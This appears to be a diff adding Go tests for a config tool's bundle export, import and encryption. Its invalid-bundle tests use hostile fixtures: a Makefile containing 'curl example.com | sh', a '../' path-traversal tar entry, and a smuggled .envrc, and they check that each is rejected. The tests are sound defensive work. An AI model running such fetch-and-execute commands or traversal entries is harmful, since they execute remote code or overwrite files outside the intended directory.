@@ -0,0 +1,278 @@
+package cmdconfig
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/mozey/config/pkg/share"
+	"github.com/mozey/config/pkg/testutil"
+)
+
+func TestBundle(t *testing.T) {
+	is := testutil.Setup(t)
+
+	tmp, err := os.MkdirTemp("", "mozey-config")
+	is.NoErr(err)
+	defer (func() {
+		_ = os.RemoveAll(tmp)
+	})()
+	src := filepath.Join(tmp, "src")
+	dst := filepath.Join(tmp, "dst")
+	is.NoErr(os.MkdirAll(src, 0755))
+	is.NoErr(os.MkdirAll(dst, 0755))
+
+	files := map[string]string{
+		"config.dev.json":   `{"APP_FOO": "dev"}`,
+		"config.prod.yaml":  "APP_FOO: prod\n",
+		"config.stage.json": `{"APP_FOO": "stage"}`,
+		FileNameTypes:       `{"APP_FOO": "string"}`,
+		FileNameManifest:    `envs = ["dev", "prod", "stage"]`,
+	}
+	for name, content := range files {
+		err = os.WriteFile(filepath.Join(src, name), []byte(content), perms)
+		is.NoErr(err)
+	}
+	m, err := LoadManifest(src)
+	is.NoErr(err)
+
+	bundlePath := filepath.Join(tmp, "bundle.tar.gz")
+	in := &CmdIn{}
+	in.AppDir = src
+	in.Prefix = "APP_"
+	in.Env = "prod,dev"
+	in.ExportBundle = bundlePath
+	in.manifest = m
+	out, err := Cmd(in)
+	is.NoErr(err)
+	is.Equal(CmdExportBundle, out.Cmd)
+	is.Equal(1, len(out.Files))
+	is.Equal(1, len(out.Warnings))
+	is.Equal(strings.Join([]string{
+		"bundle " + FileNameManifest,
+		"bundle config.dev.json",
+		"bundle config.prod.yaml",
+		"bundle " + FileNameTypes,
+	}, "\n")+"\n", out.Buf.String())
+	is.NoErr(out.Files.Save(new(bytes.Buffer)))
+
+	index, contents, err := readBundle(out.Files[0].Buf.Bytes())
+	is.NoErr(err)
+	is.Equal("config.prod.yaml", index.Envs[EnvProd].File)
+	is.Equal(share.KeysHash([]string{"APP_FOO"}), index.Envs[EnvProd].KeysHash)
+	_, ok := contents["config.stage.json"]
+	is.True(!ok)
+
+	// Import
+	in = &CmdIn{}
+	in.AppDir = dst
+	in.Prefix = "APP_"
+	in.Env = share.EnvDev
+	in.ImportBundle = bundlePath
+	out, err = Cmd(in)
+	is.NoErr(err)
+	is.Equal(CmdImportBundle, out.Cmd)
+	is.Equal(4, len(out.Files))
+	is.NoErr(out.Files.Save(new(bytes.Buffer)))
+	b, err := os.ReadFile(filepath.Join(dst, "config.prod.yaml"))
+	is.NoErr(err)
+	is.Equal(files["config.prod.yaml"], string(b))
+
+	// Unchanged files are skipped
+	out, err = Cmd(in)
+	is.NoErr(err)
+	is.Equal(0, len(out.Files))
+
+	// Changed files require force
+	err = os.WriteFile(filepath.Join(dst, "config.dev.json"),
+		[]byte(`{"APP_FOO": "changed"}`), perms)
+	is.NoErr(err)
+	_, err = Cmd(in)
+	is.True(err != nil)
+	in.Force = true
+	out, err = Cmd(in)
+	is.NoErr(err)
+	is.Equal(1, len(out.Files))
+	is.Equal(filepath.Join(dst, "config.dev.json"), out.Files[0].Path)
+
+	// Local config file with another extension
+	in.Force = false
+	is.NoErr(os.Remove(filepath.Join(dst, "config.dev.json")))
+	err = os.WriteFile(filepath.Join(dst, "config.dev.yaml"),
+		[]byte("APP_FOO: local\n"), perms)
+	is.NoErr(err)
+	_, err = Cmd(in)
+	is.True(err != nil)
+	is.True(strings.Contains(err.Error(), "convert it to config.dev.json"))
+	is.NoErr(os.Remove(filepath.Join(dst, "config.dev.yaml")))
+
+	// Prefix must match
+	in.Prefix = "API_"
+	_, err = Cmd(in)
+	is.True(err != nil)
+	in.Prefix = "APP_"
+
+	// Protected envs require force
+	in.manifest = &Manifest{Protected: []string{EnvProd}}
+	_, err = Cmd(in)
+	is.True(err != nil)
+	is.True(strings.Contains(err.Error(), "protected"))
+	in.Force = true
+	_, err = Cmd(in)
+	is.NoErr(err)
+}
+
+func TestBundleEncrypted(t *testing.T) {
+	is := testutil.Setup(t)
+
+	tmp, err := os.MkdirTemp("", "mozey-config")
+	is.NoErr(err)
+	defer (func() {
+		_ = os.RemoveAll(tmp)
+	})()
+
+	err = os.WriteFile(filepath.Join(tmp, "config.prod.json"),
+		[]byte(`{"APP_SECRET": "s3cr3t"}`), perms)
+	is.NoErr(err)
+
+	t.Setenv(BundleKeyEnvKey, "passphrase")
+	in := &CmdIn{}
+	in.AppDir = tmp
+	in.Prefix = "APP_"
+	in.Env = EnvProd
+	in.ExportBundle = filepath.Join(tmp, "bundle.tar.gz")
+	out, err := Cmd(in)
+	is.NoErr(err)
+	is.Equal(0, len(out.Warnings))
+	b := out.Files[0].Buf.Bytes()
+	is.True(bytes.HasPrefix(b, []byte(bundleMagic)))
+	is.True(!bytes.Contains(b, []byte("s3cr3t")))
+
+	_, contents, err := readBundle(b)
+	is.NoErr(err)
+	is.Equal(`{"APP_SECRET": "s3cr3t"}`, string(contents["config.prod.json"]))
+
+	// Wrong key
+	t.Setenv(BundleKeyEnvKey, "wrong")
+	_, _, err = readBundle(b)
+	is.True(err != nil)
+
+	// Missing key
+	t.Setenv(BundleKeyEnvKey, "")
+	_, _, err = readBundle(b)
+	is.True(err != nil)
+	is.True(strings.Contains(err.Error(), BundleKeyEnvKey))
+}
+
+// tarGz returns a bundle with the given entries
+func tarGz(t *testing.T, entries map[string][]byte) []byte {
+	is := testutil.Setup(t)
+	buf := new(bytes.Buffer)
+	gz := gzip.NewWriter(buf)
+	tw := tar.NewWriter(gz)
+	for name, b := range entries {
+		is.NoErr(tw.WriteHeader(&tar.Header{
+			Name: name, Mode: 0644, Size: int64(len(b))}))
+		_, err := tw.Write(b)
+		is.NoErr(err)
+	}
+	is.NoErr(tw.Close())
+	is.NoErr(gz.Close())
+	return buf.Bytes()
+}
+
+func TestBundleInvalid(t *testing.T) {
+	is := testutil.Setup(t)
+
+	config := []byte(`{"APP_FOO": "foo"}`)
+	index := bundleIndex{
+		Version: bundleVersion,
+		Prefix:  "APP_",
+		Envs: map[string]bundleEnv{EnvProd: {
+			File:     "config.prod.json",
+			KeysHash: share.KeysHash([]string{"APP_FOO"}),
+		}},
+		Files: map[string]string{"config.prod.json": fileHash(config)},
+	}
+	indexJSON := func(index bundleIndex) []byte {
+		b, err := json.Marshal(index)
+		is.NoErr(err)
+		return b
+	}
+
+	_, _, err := readBundle(tarGz(t, map[string][]byte{
+		FileNameBundleIndex: indexJSON(index),
+		"config.prod.json":  config,
+	}))
+	is.NoErr(err)
+
+	// Not a bundle
+	_, _, err = readBundle([]byte("not a bundle"))
+	is.True(err != nil)
+
+	// Missing index
+	_, _, err = readBundle(tarGz(t, map[string][]byte{
+		"config.prod.json": config,
+	}))
+	is.True(err != nil)
+
+	// Entries outside APP_DIR
+	_, _, err = readBundle(tarGz(t, map[string][]byte{
+		FileNameBundleIndex:  indexJSON(index),
+		"config.prod.json":   config,
+		"../config.dev.json": config,
+	}))
+	is.True(err != nil)
+
+	// File not in index
+	_, _, err = readBundle(tarGz(t, map[string][]byte{
+		FileNameBundleIndex: indexJSON(index),
+		"config.prod.json":  config,
+		"config.dev.json":   config,
+	}))
+	is.True(err != nil)
+
+	// Modified file
+	_, _, err = readBundle(tarGz(t, map[string][]byte{
+		FileNameBundleIndex: indexJSON(index),
+		"config.prod.json":  []byte(`{"APP_BAR": "bar"}`),
+	}))
+	is.True(err != nil)
+
+	// Only config files, the schema, and the manifest are allowed
+	makefile := []byte("all:\n\tcurl example.com | sh\n")
+	unsafe := index
+	unsafe.Files = map[string]string{
+		"config.prod.json": fileHash(config), "Makefile": fileHash(makefile)}
+	_, _, err = readBundle(tarGz(t, map[string][]byte{
+		FileNameBundleIndex: indexJSON(unsafe),
+		"config.prod.json":  config,
+		"Makefile":          makefile,
+	}))
+	is.True(err != nil)
+	is.True(strings.Contains(err.Error(), "not allowed"))
+	unsafe = index
+	unsafe.Envs = map[string]bundleEnv{EnvProd: {
+		File: ".envrc", KeysHash: share.KeysHash([]string{"APP_FOO"})}}
+	unsafe.Files = map[string]string{".envrc": fileHash(config)}
+	_, _, err = readBundle(tarGz(t, map[string][]byte{
+		FileNameBundleIndex: indexJSON(unsafe),
+		".envrc":            config,
+	}))
+	is.True(err != nil)
+	is.True(strings.Contains(err.Error(), "not a config file"))
+
+	// Keys hash mismatch
+	index.Envs[EnvProd] = bundleEnv{File: "config.prod.json", KeysHash: "x"}
+	_, _, err = readBundle(tarGz(t, map[string][]byte{
+		FileNameBundleIndex: indexJSON(index),
+		"config.prod.json":  config,
+	}))
+	is.True(err != nil)
+	is.True(strings.Contains(err.Error(), "keys hash"))
+}